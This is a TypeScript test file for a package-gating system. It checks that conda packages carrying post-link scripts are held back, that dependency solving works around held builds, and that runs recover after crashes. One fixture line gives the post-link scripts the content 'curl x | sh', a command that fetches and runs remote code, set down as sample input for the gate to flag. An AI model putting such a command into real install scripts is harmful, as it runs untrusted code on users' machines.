import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { rattlerSolver } from '../../adapters/solver-rattler/solver-rattler.ts';
import { runSchema } from '../../core/documents/run.ts';
import { parseJson } from '../../core/json/json.ts';
import type { Solver } from '../../core/ports/solver.ts';
import { buildChannel } from '../../local/sample/build-channel.ts';
import { small } from '../support/cli/start-lab.ts';
import { listed } from '../support/cloud/cloud-lab.ts';
import { type Mischief, type SmallCloud, smallCloud } from '../support/cloud/small-cloud.ts';
import { type TemporaryFolder, temporaryFolder } from '../support/machine/temporary-folder.ts';
import { key } from '../support/store/objects.ts';

let folder: TemporaryFolder;
let solver: Solver & AsyncDisposable;
beforeAll(async () => {
  folder = await temporaryFolder();
  solver = rattlerSolver();
  const linked = (name: string) => ({ files: [{ path: `bin/.${name}-post-link.sh`, content: 'curl x | sh\n' }] });
  const packages = [
    ...[small('a 1.0'), small('old 1.0'), small('b 1.0', ['a']), small('b 2.0', ['a'], linked('b'))],
    ...[small('d 1.0'), small('d 2.0', [], linked('d')), small('d 3.0', [], linked('d'))],
  ];
  await buildChannel(join(folder.path, 'upstream'), packages, { forms: ['json'] });
});
afterAll(async () => {
  await solver[Symbol.asyncDispose]();
  await folder[Symbol.asyncDispose]();
});

const allowing = (...packages: string[]) => {
  return { channels: [pathToFileURL(join(folder.path, 'upstream')).href], platforms: ['linux-64'], packages };
};

function latestRun(cloud: SmallCloud) {
  const text = (path: string) => Buffer.from(cloud.bucket.objects.get(key(path))?.bytes ?? []).toString();
  const { run } = JSON.parse(text('_gatehouse/runs/latest.json'));
  return parseJson(text(`_gatehouse/runs/${run}.json`), runSchema, 'the run');
}

/** One channel, then another allowlist of which a newest build is held; all in so many invocations as it takes. */
async function played(packages: readonly string[], mischief?: Mischief): Promise<SmallCloud> {
  const cloud = smallCloud(solver, mischief);
  await cloud.allowlist(allowing('old'));
  await cloud.run();
  cloud.now += 1000;
  await cloud.allowlist(allowing(...packages));
  await cloud.run();
  return cloud;
}

it('solves around what the gate holds once it came, in the same run, and what leaves leaves', async () => {
  const cloud = await played(['b']);
  expect(listed(cloud)).toEqual(['a-1.0-0.conda', 'b-1.0-0.conda']);
  expect(latestRun(cloud)).toMatchObject({ stage: 'settled', round: 2 });
  expect(cloud.dead).toEqual([]);
  expect(cloud.telemetry.lines).toContainEqual(expect.stringMatching(/^warning: held .*D1\.link-script/));
  const told = expect.stringMatching(/^warning: settle .*"held":\["linux-64\/b-2\.0-0\.conda"\].*"status":"around"/);
  expect(cloud.telemetry.lines).toContainEqual(told);
  expect(cloud.telemetry.lines).toContainEqual(expect.stringMatching(/^waiting .*b-2\.0-0\.conda/));
  expect(Object.keys(cloud.objects('_gatehouse/held/'))).toHaveLength(1);
  expect(Object.keys(cloud.objects('conda/linux-64/b-2'))).toEqual([]);
});

it('goes by what is here where it was held twice, says which entry does not install, and settles', async () => {
  const cloud = await played(['b', 'd']);
  expect(listed(cloud)).toEqual(['a-1.0-0.conda', 'b-1.0-0.conda']);
  expect(latestRun(cloud)).toMatchObject({ stage: 'settled', round: 3 });
  expect(cloud.telemetry.counts.get('PlanProblems')).toBeGreaterThan(0);
  expect(cloud.dead).toEqual([]);
  cloud.now += 1000;
  await cloud.schedule('a week later');
  await cloud.run();
  expect(listed(cloud)).toEqual(['a-1.0-0.conda', 'b-1.0-0.conda', 'd-1.0-0.conda']);
  expect(latestRun(cloud)).not.toHaveProperty('round');
});

it('comes to the same when it is cut off, wherever that is', async () => {
  const sound = await played(['b']);
  for (let effect = 120; effect < sound.effects; effect += Math.ceil(sound.effects / 12)) {
    const cut = await played(['b'], { random: () => 0, crash: (at) => at === effect });
    expect([listed(cut), latestRun(cut).stage, cut.dead], `effect ${effect}`).toEqual([listed(sound), 'settled', []]);
  }
});
